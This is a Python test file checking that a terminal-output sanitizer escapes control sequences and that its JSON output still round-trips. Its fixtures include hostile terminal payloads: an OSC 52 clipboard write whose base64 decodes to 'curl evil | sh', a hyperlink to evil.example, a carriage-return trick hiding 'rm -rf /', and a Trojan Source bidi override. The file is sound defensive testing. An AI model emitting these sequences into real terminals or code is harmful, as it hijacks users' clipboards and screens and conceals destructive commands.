"""Text shown on a terminal: every escape sequence a model or a command could send arrives
as visible text, never as a control the terminal obeys; ``--json`` output escapes the same
characters and still reads back as the same values."""

from __future__ import annotations

import json
import re

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from protocol.basics.printable import json_printable, printable

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
#: Anything a terminal could act on: C0 but LF and TAB, DEL, C1, bidi controls, surrogates.
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

# (name, hostile text, what the user sees instead)
SEQUENCES = [
    ("OSC 52 clipboard, BEL", f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}",
     "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"),
    ("OSC 52 clipboard, ST", f"{ESC}]52;c;Y3VybA=={ST}", "\\x1b]52;c;Y3VybA==\\x1b\\"),
    ("OSC 8 hyperlink", f"{ESC}]8;;https://evil.example/{ST}docs{ESC}]8;;{ST}",
     "\\x1b]8;;https://evil.example/\\x1b\\docs\\x1b]8;;\\x1b\\"),
    ("OSC 0 title", f"{ESC}]0;pwned{BEL}", "\\x1b]0;pwned\\x07"),
    ("8-bit OSC", "\x9d0;title\x9c", "\\x9d0;title\\x9c"),
    ("CSI colour and erase", f"{ESC}[31mred{ESC}[0m{ESC}[2K", "\\x1b[31mred\\x1b[0m\\x1b[2K"),
    ("8-bit CSI", "\x9b2J\x9b1;1H", "\\x9b2J\\x9b1;1H"),
    ("DCS", f"{ESC}P1$r0m{ST}", "\\x1bP1$r0m\\x1b\\"),
    ("8-bit DCS, SOS, PM, APC", "\x90q\x9c\x98s\x9c\x9ep\x9c\x9fa\x9c", "\\x90q\\x9c\\x98s\\x9c\\x9ep\\x9c\\x9fa\\x9c"),
    ("SOS, PM, APC", f"{ESC}Xs{ST}{ESC}^p{ST}{ESC}_a{ST}", "\\x1bXs\\x1b\\\\x1b^p\\x1b\\\\x1b_a\\x1b\\"),
    ("other ESC: reset, keypad, charset", f"{ESC}c{ESC}={ESC}(0", "\\x1bc\\x1b=\\x1b(0"),
    ("unterminated OSC", f"ok {ESC}]52;c;AAAA", "ok \\x1b]52;c;AAAA"),
    ("nested: OSC inside OSC inside DCS", f"{ESC}P{ESC}]0;{ESC}]52;c;x{BEL}{BEL}{ST}",
     "\\x1bP\\x1b]0;\\x1b]52;c;x\\x07\\x07\\x1b\\"),
    ("NUL and C0", "a\x00b\x08c\x0bd\x0ce\x7f", "a\\x00b\\x08c\\x0bd\\x0ce\\x7f"),
    ("lone CR overwrites the line", "rm -rf /\rls", "rm -rf /\\rls"),
    ("C1 NEL and CSI", "a\x85b", "a\\x85b"),
    ("bidi override (Trojan Source)", "access = \u202euser\u202c", "access = \\u202euser\\u202c"),
    ("bidi isolates and marks", "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
     "\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c"),
    ("lone surrogate", "x\udcffy", "x\\udcffy"),
]


@pytest.mark.parametrize(("name", "text", "shown"), SEQUENCES, ids=[s[0] for s in SEQUENCES])
def test_every_sequence_is_shown_escaped_not_obeyed(name: str, text: str, shown: str) -> None:
    assert printable(text) == shown
    assert _OBEYED.search(printable(text)) is None


def test_newlines_tabs_and_crlf_are_kept_and_ordinary_text_is_returned_as_it_is() -> None:
    text = "def f():\n\treturn 'héllo, 世界 — ✓'\r\n"
    assert printable(text) is text
    assert printable("a\r\nb\rc") == "a\r\nb\\rc"


def test_one_line_values_escape_newlines_tabs_and_every_cr() -> None:
    assert printable("a.txt\n  why: fine\tok\r\n", lines=False) == "a.txt\\n  why: fine\\tok\\r\\n"
    assert printable(f"{ESC}]0;t{BEL}", lines=False) == "\\x1b]0;t\\x07"


def test_json_output_escapes_del_c1_and_bidi_and_reads_back_the_same() -> None:
    value = {"content": f"{ESC}]52;c;x{BEL}\x9b31m\x85\x7f\u202e\u2066 \n\t ok é"}
    encoded = json_printable(msgspec.json.encode(value).decode())
    assert _OBEYED.search(encoded) is None and "\n" not in encoded
    assert "\\u009b" in encoded and "\\u202e" in encoded and "\\u007f" in encoded
    assert json.loads(encoded) == value


_HOSTILE = st.text(st.sampled_from([ESC, BEL, "\x9b", "\x9d", "\x9c", "\x90", "\x00", "\r", "\n", "\t", "\x7f",
                                    "\u202e", "\u2066", "\u200f", "]", "[", "5", "2", ";", "c", "\\", "a", "é"]),
                   max_size=40) | st.text(max_size=40)


@settings(max_examples=500, deadline=None)
@given(text=_HOSTILE)
def test_nothing_a_terminal_obeys_survives_and_escaping_is_idempotent(text: str) -> None:
    shown = printable(text)
    assert _OBEYED.search(shown.replace("\r\n", "\n")) is None  # a CR only where a LF follows
    assert printable(shown) == shown  # what is shown holds nothing left to escape
    line = printable(text, lines=False)
    assert _OBEYED.search(line) is None and "\n" not in line and "\t" not in line and "\r" not in line


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.characters(blacklist_categories=["Cs"]), max_size=40))
def test_json_stays_valid_and_equal_for_any_text(text: str) -> None:
    encoded = json_printable(msgspec.json.encode([text]).decode())
    assert json.loads(encoded) == [text]
    assert _OBEYED.search(encoded) is None
